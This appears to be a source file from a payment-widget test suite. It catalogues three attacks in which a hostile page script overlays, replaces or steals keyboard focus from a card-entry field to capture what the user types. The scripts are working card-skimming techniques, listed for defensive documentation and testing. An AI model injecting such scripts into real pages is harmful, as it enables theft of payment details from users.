/** Fields of the attacker's own in place of ours. No widget can stop that; it is listed so that nobody thinks otherwise. */
import type { Attack } from '../attack.ts';

export const IMITATION: readonly Attack[] = [
  {
    id: 'ui-overlay',
    what: 'draws fields of its own over the widget',
    aim: 'imitation',
    control: 'imitates',
    alone: true,
    script: `whenHosts(() => {
        const card = document.getElementById('card');
        const cover = document.createElement('div');
        cover.innerHTML = '<input><input><input>';
        const { left, top, width, height } = card.getBoundingClientRect();
        Object.assign(cover.style, { position: 'absolute', left: left + 'px', top: top + 'px', width: width + 'px', height: height + 'px', background: 'white', zIndex: 9 });
        card.before(cover);
        card.inert = true; // the keyboard comes to the imitation as the mouse does
        cover.addEventListener('input', () => own([...cover.querySelectorAll('input')].map(({ value }) => value).join(' ')));
      });`,
  },
  {
    id: 'ui-replace',
    what: 'puts a look-alike in the place of the element',
    aim: 'imitation',
    control: 'imitates',
    alone: true,
    script: `whenHosts(() => {
        const card = document.getElementById('card');
        const other = document.createElement('div');
        other.innerHTML = '<input><input><input>';
        card.replaceWith(other);
        other.addEventListener('input', () => own([...other.querySelectorAll('input')].map(({ value }) => value).join(' ')));
      });`,
  },
  {
    id: 'ui-keycapture',
    what: 'takes the focus back to a hidden field of its own whenever the widget gets it',
    aim: 'imitation',
    control: 'imitates',
    alone: true,
    script: `whenHosts(() => {
        const hidden = document.getElementById('pay').appendChild(document.createElement('input'));
        Object.assign(hidden.style, { position: 'absolute', opacity: 0, width: '1px' });
        hidden.tabIndex = -1;
        let text = '';
        hidden.addEventListener('input', () => own(hidden.value));
        const take = () => { if (document.activeElement?.id === 'card') hidden.focus(); };
        setInterval(take, 5);
        for (const type of ['focusin', 'blur']) listen(window, type, () => setTimeout(take, 0), true);
      });`,
  },
];
